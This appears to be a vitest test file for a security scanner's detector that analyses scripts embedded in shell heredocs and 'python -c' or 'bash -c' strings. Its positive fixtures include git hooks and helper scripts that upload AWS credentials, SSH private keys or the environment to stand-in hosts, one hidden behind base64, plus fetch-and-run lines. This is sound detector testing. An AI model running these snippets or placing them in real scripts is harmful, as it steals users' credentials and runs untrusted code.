import { describe, expect, it } from 'vitest';
import { embeddedScripts } from '../../../../src/scan/detectors/code-embedded.js';
import { checkDetectorCases, type DetectorCase } from './detector-cases.js';

// Heredoc bodies that are code (written to a hook, a bin directory, a .py file, or fed to an interpreter)
// are analysed in their own language with findings at their real lines; data heredocs are not.

const packedHook = Buffer.from(
  [
    '#!/bin/bash',
    "cat > .git/hooks/post-merge <<'EOF'",
    '#!/bin/sh',
    'curl -s -X POST --data-binary @"$HOME/.aws/credentials" https://sync.example-hooks.dev/in',
    'EOF',
    'chmod +x .git/hooks/post-merge',
    '',
  ].join('\n'),
).toString('base64');

const positives: DetectorCase[] = [
  {
    // A whole script packed behind a decoder: what its here-document writes is reported on the blob's line.
    name: 'a packed script whose here-document writes a hook that uploads the AWS credentials',
    path: 'scripts/install.sh',
    text: `#!/bin/bash\necho '${packedHook}' | base64 -d | bash\n`,
    expect: [['PE3', 2, 0.5]],
  },
  {
    name: 'post-merge hook that uploads the AWS credentials',
    path: 'scripts/hooks.sh',
    text: [
      '#!/bin/bash',
      'HOOK=.git/hooks/post-merge',
      'cat > "$HOOK" <<\'EOF\'',
      '#!/bin/sh',
      'echo "syncing"',
      'curl -s -X POST --data-binary @"$HOME/.aws/credentials" https://sync.example-hooks.dev/in',
      'EOF',
      'chmod +x "$HOOK"',
      '',
    ].join('\n'),
    expect: [
      ['PE3', 6, 0.5],
      ['E1', 6, 0.5],
    ],
  },
  {
    name: 'python fed on stdin that posts the environment',
    path: 'scripts/report.sh',
    text: [
      '#!/usr/bin/env bash',
      'set -e',
      "python3 - <<'PY'",
      'import os, json, urllib.request',
      'body = json.dumps(dict(os.environ)).encode()',
      'urllib.request.urlopen("http://198.51.100.77/e", data=body)',
      'PY',
      '',
    ].join('\n'),
    expect: [['E2', 6, 0.5]],
  },
  {
    name: 'helper dropped into ~/.local/bin with a fetch-and-run line',
    path: 'install.sh',
    text: [
      '#!/bin/sh',
      'mkdir -p "$HOME/.local/bin"',
      'cat >"$HOME/.local/bin/gitx" <<-END',
      '\t#!/bin/sh',
      '\twget -qO- https://203.0.113.66/g.sh | sh',
      '\texec git "$@"',
      '\tEND',
      'chmod 755 "$HOME/.local/bin/gitx"',
      '',
    ].join('\n'),
    expect: [['SC2', 5, 0.7]],
  },
  {
    name: 'node file written by tee then run',
    path: 'scripts/gen.sh',
    text: [
      '#!/bin/bash',
      'tee /tmp/collect.js >/dev/null <<"JS"',
      "const https = require('https');",
      "const fs = require('fs');",
      "const key = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');",
      "https.request({ host: 'paste.example-bin.net', method: 'POST', path: '/k' }).end(key);",
      'JS',
      'node /tmp/collect.js',
      '',
    ].join('\n'),
    expect: [['PE3', 5, 0.5]],
  },
  {
    name: 'multi-line python -c string keeps its own line numbers',
    path: 'scripts/collect.sh',
    text: [
      '#!/bin/bash',
      'echo "warming cache"',
      'python3 -c "',
      'import os, json, urllib.request',
      'payload = json.dumps(dict(os.environ)).encode()',
      "urllib.request.urlopen('https://203.0.113.19/c', data=payload)",
      '"',
      '',
    ].join('\n'),
    expect: [['E2', 6, 0.5]],
  },
  {
    name: 'multi-line bash -c string with a fetch-and-run on its third line',
    path: 'scripts/bootstrap.sh',
    text: "#!/bin/bash\nbash -c '\n  cd /tmp\n  curl -fsSL https://get.example-tools.io/x.sh | sh\n'\n",
    expect: [['SC2', 4, 0.7]],
  },
];

const negatives: DetectorCase[] = [
  {
    name: 'config and docs written by heredocs are not code',
    path: 'scripts/init.sh',
    text: [
      '#!/bin/bash',
      'cat > config.yaml <<EOF',
      'endpoint: https://api.example.com',
      'token_env: API_TOKEN',
      'EOF',
      "cat <<'USAGE'",
      'usage: init.sh [--force]',
      '  curl -X POST https://api.example.com/items  # what the tool calls',
      'USAGE',
      '',
    ].join('\n'),
    quiet: ['E1', 'E2', 'PE3', 'SC2', 'P4'],
  },
  {
    name: 'a pre-commit hook that only runs the linter',
    path: 'scripts/hook.sh',
    text: [
      '#!/bin/bash',
      "cat > .git/hooks/pre-commit <<'EOF'",
      '#!/bin/sh',
      'npx biome check --staged || exit 1',
      'EOF',
      'chmod +x .git/hooks/pre-commit',
      '',
    ].join('\n'),
    quiet: ['E1', 'E2', 'PE3', 'SC2', 'P4'],
  },
  {
    name: 'python on stdin that prints a version',
    path: 'scripts/check.sh',
    text: '#!/bin/bash\npython3 - <<EOF\nimport sys\nprint(sys.version)\nEOF\n',
    quiet: ['E1', 'E2', 'PE3', 'SC2'],
  },
];

describe('embedded scripts analysed in their own language', () => {
  it.each(positives)('$name', (c) => checkDetectorCases(c));
  it('finds body lines and skips data heredocs', () => {
    const s = embeddedScripts('x\ncat > a.py <<EOF\nimport os\nEOF\ncat > notes.txt <<EOF\nhi\nEOF\n');
    expect(s.map((e) => [e.language, e.line, e.text])).toEqual([['python', 3, 'import os']]);
  });
});

describe('embedded look-alikes stay quiet', () => {
  it.each(negatives)('$name', (c) => checkDetectorCases(c));
});
